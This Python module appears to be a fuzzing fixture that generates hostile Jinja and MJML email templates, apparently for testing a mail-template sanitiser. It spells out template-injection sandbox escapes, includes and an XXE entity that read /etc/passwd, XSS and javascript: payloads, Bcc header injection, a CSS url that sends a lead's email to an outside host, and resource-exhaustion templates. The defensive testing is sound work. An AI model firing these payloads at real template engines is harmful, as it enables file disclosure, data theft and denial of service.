"""Three hundred hostile templates, by kinds: what somebody who means harm, or a broken tool, puts into a mail.

Each is drawn by its number alone, so one number is one template on every machine.
"""

import json
import random
from collections.abc import Callable
from typing import NamedTuple

EACH = 15

# fmt: off

FAQ_SUBJECT = '"subject": "よくあるご質問をまとめました"'
LEGAL = (
    "<p>{{ company.name }} {{ company.postal_address }} {{ company.contact }} "
    '<a href="{{ unsubscribe_url }}">停止</a></p>'
)


class Hostile(NamedTuple):
    """`files`: what is uploaded; `mail`: the template among them; `subject` of the step, if the harm lies there."""

    kind: str
    files: dict[str, str]
    subject: str | None = None


def page(body: str, head: str = "", title: str = "題") -> str:
    return f"<!doctype html><html lang=ja><head><title>{title}</title>{head}</head><body>{body}{LEGAL}</body></html>"


def as_json(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def one(kind: str, template: str) -> Hostile:
    return Hostile(kind, {"mails/faq.html": template})


def unclosed(draw: random.Random) -> str:
    tags = draw.choices(["<p>", "<table>", "<tr><td>", "<a href='https://e.jp'>", "<b", "<!--", "<style>",
    '<p title="'], k=9)
    return page("".join(tags) * draw.choice([1, 40, 600]))


def escape(draw: random.Random) -> str:
    name = draw.choice(["lead", "company", "''", "()", "lead.company", "unsubscribe_url", "[]", "lead.honorific",
    "1"])
    way = draw.choice(
        [".__class__", "|attr('__class__')", "['__class__']", ".__init__.__globals__", "['__cla'~'ss__']",
         "|map(attribute='__class__')|list", ".format(lead)", "|format(lead)", ".mro()", "['\\x5f_class__']"]
    )
    return page("{{ " + name + way + " }}")


def builtin(draw: random.Random) -> str:
    return page(
        draw.choice(
            ["{{ cycler.__init__ }}", "{{ joiner() }}", "{{ namespace(a=1) }}", "{{ range(9**9)|list }}",
             "{{ lipsum(99999) }}",
             "{{ self._TemplateReference__context }}", "{% import 'os' as os %}", "{% from 'x' import y %}",
             "{{ config }}",
             "{{ request.environ }}", "{{ dict(a=1) }}", "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
             "{{ caller() }}",
             "{% call(x) y() %}{% endcall %}", "{% set x = lead %}{{ x }}", "{% do lead.clear() %}", "{{ g.x }}",
             "{% autoescape false %}{{ lead.company }}{% endautoescape %}", "{{ lead.company|safe }}",
             "{% with x=lead %}{{ x }}{% endwith %}", "{{ ''.join(['a']) }}", "{% debug %}"]
        )
    )


def loop(draw: random.Random) -> str:
    times = draw.choice([9, 99, 9_999])
    return page(
        draw.choice(
            ["{% for x in range(10**9) %}x{% endfor %}", "{% for x in lead %}{{ x }}{% endfor %}",
             "{% for p in catalogs.sale %}" * 5 + "x" + "{% endfor %}" * 5,
             "{% for p in catalogs.sale %}" + "x" * 20_000 + "{% endfor %}",
             "{% for p in catalogs.sale recursive %}{{ loop(catalogs.sale) }}{% endfor %}",
             "{% for p in catalogs.sale %}{{ p.title }}{% endfor %}" * times,
             "{{ lead.company * 999999999 }}", "{{ 'x' * 10**9 }}", "{{ 9 ** 9 ** 9 }}",
             "{{ lead.company|center(10**9) }}",
             "{{ '%999999999d' % 1 }}", "{{ lead.company|indent(10**8) }}", "{{ 'a'|replace('', 'b' * 99999) }}"]
        )
    )


def deep(draw: random.Random) -> str:
    times = draw.choice([60, 500, 3_000])
    opening, closing = draw.choice(
        [("<div>", "</div>"), ("<table><tr><td>", "</td></tr></table>"), ("{% if lead.company %}", "{% endif %}"),
         ("<b style='color:red'>", "</b>"), ("<blockquote>", "")]
    )
    return page(draw.choice([opening * times + "x" + closing * times, "{{ " + "(" * times + "1" + ")" * times + " }}",
                             "{{ " + "not " * times + "lead.company }}", "{{ lead" + ".a" * times + " }}"]))


def recursion(draw: random.Random) -> Hostile:
    names = [f"_p{n}.html" for n in range(draw.choice([1, 2, 5, 40]))]
    times = draw.choice([1, 2, 12])
    parts = {
        f"mails/{name}": f"{{% include '{names[(at + 1) % len(names)]}' %}}" * times for at, name in enumerate(names)
    }
    if draw.random() < 0.4:  # no circle, but twice as much each time
        parts[f"mails/{names[-1]}"] = "x" * 900
    outside = draw.choice(["../../etc/passwd", "/etc/passwd", "settings.json", "_p0.html\x00", "faq.html",
    "http://e.jp/x"])
    body = draw.choice([f"{{% include '{names[0]}' %}}" * times, f"{{% include '{outside}' %}}",
    "{% include lead.company %}"])
    return Hostile("recursion", {**parts, "mails/faq.html": page(body)})


def inheritance(draw: random.Random) -> Hostile:
    mail = draw.choice(
        ["{% extends 'faq.html' %}", "{% extends lead.company %}",
         "{% extends '_l.html' %}{% block b %}{{ super() }}{% endblock %}",
         "{% extends '_l.html' %}{% block b %}{% block b %}{% endblock %}{% endblock %}",
         "{% extends '_l.html' %}" * 9,
         "{% extends '_l.html' %}{% block __class__ %}x{% endblock %}", "{% extends '_l.html' %}{{ self.b() }}"]
    )
    layout = draw.choice([page("{% block b %}{% endblock %}"), "{% extends '_l.html' %}", page("{% block b %}" * 300)])
    return Hostile("inheritance", {"mails/_l.html": layout, "mails/faq.html": mail})


def bidi(draw: random.Random) -> str:
    hidden = "\u202e\u202d\u2066\u2067\u2069\u200b\u200e\u200f\ufeff\u2028\u2029\u00ad\U000e0041"
    marks = "".join(draw.choices(hidden, k=20))
    words = f"https://e.jp/{marks}gpj.exe"
    return page(f"<p>{marks}<a href='{words}'>{words}</a>{{{{ lead.{marks}company }}}}</p>", title=f"ご案内{marks}")


def control(draw: random.Random) -> str:
    marks = "".join(draw.choices("\x00\x01\x08\x0b\x0c\x1b\x7f\x85\ufffe\ue000\ue001\ud7ff", k=30))
    return page(f"<p title='{marks}'>{marks}{{{{ lead.company }}}}<a href='https://e.jp/{marks}'>x</a>") + marks


def header(draw: random.Random) -> Hostile:
    end = draw.choice(["\r\n", "\n", "\r", "\u2028", "\x0b", "\x85", "&#13;&#10;", "&NewLine;", "{{ '\\r\\n' }}",
    "{{ '\\n' }}"])
    subject = f"題{end}Bcc: victim@example.com{end}{end}<script>alert(1)</script>"
    if draw.random() < 0.5:
        return one("header", page("<p>x</p>", title=subject))
    return Hostile("header", {"mails/faq.html": page("<p>x</p>")}, subject)


def active(draw: random.Random) -> str:
    tag = draw.choice(
        ["<script>x</script>", "<ScRiPt src=//e.jp>", "<iframe src='https://e.jp'></iframe>",
         "<form action='https://e.jp'><input></form>",
         "<meta http-equiv='refresh' content='0;url=https://e.jp'>", "<base href='https://e.jp/'>",
         "<object data=x></object>",
         "<embed src=x>", "<applet code=x></applet>", "<svg onload=alert(1)></svg>",
         "<img src=x onerror=alert(1)>", "<frameset><frame src=x>",
         "<video src=x autoplay></video>", "<math><script>x</script></math>", "<p OnMouseOver='x'>",
         "<svg/><script>x", "<xml id=x></xml>",
         "<meta HTTP-EQUIV=&#82;efresh content=0>", "<body onload=x>", "<script\x0c>x</script>"]
    )
    return page(tag + "x", head=tag if draw.random() < 0.3 else "")


def link(draw: random.Random) -> str:
    to = draw.choice(
        ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " java\nscript:alert(1)", "&#106;avascript:alert(1)",
         "data:text/html,<script>",
         "vbscript:x", "{{ 'javascript:alert(1)' }}", "{{ 'java' ~ 'script:x' }}", "java{# #}script:x",
         "{% if lead.company %}javascript:{% endif %}x",
         "data:text/html;base64,PHNjcmlwdD4=", "\x01javascript:x", "{{ lead.company }}", "//e.jp",
         "https://user:pw@e.jp\\@x", "file:///etc/passwd",
         "https://{{ lead.company }}/x", "java&Tab;script:x", "{{ lead.honorific }}:alert(1)",
         "https://e.jp/\" onclick=\"x"]
    )
    attribute = draw.choice(["href", "HREF", "href", "href"])
    return page(f'<a {attribute}="{to}">くわしく</a>')


def css(draw: random.Random) -> str:
    rule = draw.choice(
        ["width:expression(alert(1))", "width:exp/**/ression(x)", "behavior:url(x.htc)", "-moz-binding:url(x)",
         "background:url(javascript:x)",
         "background:url(https://e.jp/{{ lead.email }})",
         "color:red" * 9_000, "width:calc(" * 900, "content:'\\3c script\\3e'",
         "font:url(" + "a" * 50_000, "position:fixed;top:0;left:0;width:9999px", "color:var(--" + "x" * 9_000 + ")"]
    )
    sheet = draw.choice(
        [f"p{{{rule}}}", f"@import url(https://e.jp/x.css);p{{{rule}}}",
         "@media x{" * 200 + rule, f"p{{{rule}}}" * 900,
         "a," * 20_000 + f"p{{{rule}}}", f"</style><script>x</script><style>p{{{rule}}}",
         f"@import 'x';{rule}}}}}}}"]
    )
    return page("<p>x</p>", f"<style>{sheet}</style>") if draw.random() < 0.6 else page(f'<p style="{rule}">x</p>')


def slow(draw: random.Random) -> str:
    piece = draw.choice(["a" * 9, "<" * 9, "&" * 9, "{" * 9, "=\"'", "<!--<!", "]]>", "{{", "%}", "<a =", "((((",
    "\ue0001", " \n", "h1>", "://"])
    return page(piece * draw.choice([2_000, 12_000, 20_000]) + draw.choice(["", "!", '">', "}}"]))


def heavy(draw: random.Random) -> str:
    size = draw.choice([90_000, 200_000, 300_000, 2_000_000])
    return page(
        draw.choice(
            [f"<img alt=x src='data:image/png;base64,{'A' * size}'>",
             f"<img alt=x src='data:image/svg+xml,{'A' * size}'>",
             "<p>" + "あ" * (size // 3), f"<p title='{'x' * size}'>x", f"<!-- {'x' * size} -->"]
        )
    )


def mjml(draw: random.Random) -> str:
    """What the library would pass over, run, load or lose, and what falls apart when a branch is not taken."""
    legal = f"<mj-section><mj-column><mj-text>{LEGAL}</mj-text></mj-column></mj-section>"
    inner = draw.choice(
        ["<mj-body><mj-section><mj-column><mj-text>x</mj-text>",
         "<mj-body><mj-include path='/etc/passwd'/>@</mj-body>",
         "<mj-body><mj-text>" * 300, "<mj-head><mj-raw><script>x</script></mj-raw></mj-head><mj-body>@</mj-body>",
         "<mj-body><mj-raw>{% for x in y %}</mj-raw>@</mj-body>", "<mj-include path='https://e.jp/x.mjml'/>",
         "<!ENTITY x SYSTEM 'file:///etc/passwd'><mj-body>&x;@</mj-body>", "<mj-body>" + "<mj-section>" * 9_000,
         "<mj-body><mj-hero><mj-button href='javascript:x'>x</mj-button></mj-hero>@</mj-body>",
         "<mj-body><mj-hero><mj-text><form action='x'>x</form></mj-text></mj-hero>@</mj-body>",
         "<mj-body><mj-section background-color='expression(x)'/>@</mj-body>",
         "<mj-body><mj-section padding='0\" onclick=\"x'/>@</mj-body>",
         "<mj-head><mj-style>p { behavior: url(x) }</mj-style></mj-head><mj-body>@</mj-body>",
         "<mj-body><mj-section>{% if lead.a %}<mj-column>{% endif %}</mj-column></mj-section>@</mj-body>",
         "<mj-body><mj-section padding='{{ lead.a }}' {{ lead.b }}/>@</mj-body>",
         "<mj-body zq0z='zq0z'>zq0z@</mj-body>",
         "<mj-head><mj-font name='x' href='https://e.jp/x.css'/></mj-head><mj-body>@</mj-body>",
         "<mj-body><mj-section><mj-column><mj-social><mj-social-element name='x'>x</mj-social-element></mj-social>"
         "</mj-column></mj-section>@</mj-body>", "<mj-body width='1e99px'>@</mj-body>",
         "<mj-body width='-1px'>@</mj-body>",
         "<mj-head><mj-preview></div><iframe src=x></mj-preview></mj-head><mj-body>@</mj-body>"]
    ).replace("@", legal)
    return f"{draw.choice(['', '<!doctype html>', chr(10)])}<mjml>{inner}</mjml>"


def confusable(draw: random.Random) -> str:
    name = draw.choice(
        ["lеad.company", "lead.соmpany", "ｌｅａｄ.company", "lead.ｃompany", "lead.company\u200b",
         "léad.company", "lead.__ｃlass__", "lead.company‮",
         "company.nаme", "unsubscribe_urⅼ", "lead．company", "𝐥ead.company", "lead.ﬁrstName",
         "\u2066lead.company", "ℓead.company"]
    )
    return page("{{ " + name + " }}") if draw.random() < 0.7 else page(f"{{% if {name} %}}x{{% endif %}}")


def mail_law(draw: random.Random) -> str:
    """Legal lines that nobody sees."""
    way = draw.choice(
        ['<div style="display:none">%s</div>', "<div hidden>%s</div>", "{%% if lead.company %%}%s{%% endif %%}",
         "<!-- %s -->",
         "<style>.h{display:none}</style><div class=h>%s</div>", "<p style='color:#fff'>%s</p>",
         "<style>p{color:#fff}</style>%s",
         "<div style='font-size:0'>%s</div>", "<template>%s</template>", "<script>%s</script>"]
    )
    return f"<html><head><title>x</title></head><body><p>x</p>{way % LEGAL}</body></html>"


def many(draw: random.Random) -> str:
    piece = draw.choice(
        ["{{ lead.company }}", "{% if lead.company %}x{% endif %}",
         "<a href='https://e.jp/{{ lead.company }}'>x</a>", "<img src=x>",
         "<p class='{{ lead.company }}'>x</p>", "{{ lead.company | default('x') }}",
         "<style>p{color:red}</style>", "{# x #}"]
    )
    return page(piece * draw.choice([300, 2_000, 9_000]))


def value(draw: random.Random) -> str:
    """Filters and comparisons with what no trait holds."""
    way = draw.choice(
        ["lead.company / 0", "lead.employees % 0", "lead.company | round", "lead.company | date",
         "lead.company | truncate(-9)",
         "lead.company | default(lead)", "lead.company[9999999999]", "lead.company[::-1]", "1e999",
         "lead.company > 3", "-lead.company",
         "lead.company | urlencode | urlencode", "lead.company in lead", "lead.employees // 0",
         "lead.company | tojson", "lead | list"]
    )
    return page("{{ " + way + " }}" + "<a href='https://e.jp/?{{ " + way + " }}'>x</a>")


KINDS: dict[str, Callable[[random.Random], str | Hostile]] = {
    each.__name__: each
    for each in (
        unclosed, escape, builtin, loop, deep, recursion, inheritance, bidi, control, header, active, link, css, slow,
        heavy, mjml, confusable, mail_law, many, value,
    )
}


def drawn(kind: str) -> list[Hostile]:
    """All of a kind."""
    made = []
    for number in range(EACH):
        template = KINDS[kind](random.Random(f"{kind} {number}"))
        made.append(one(kind, template) if isinstance(template, str) else template)
    return made
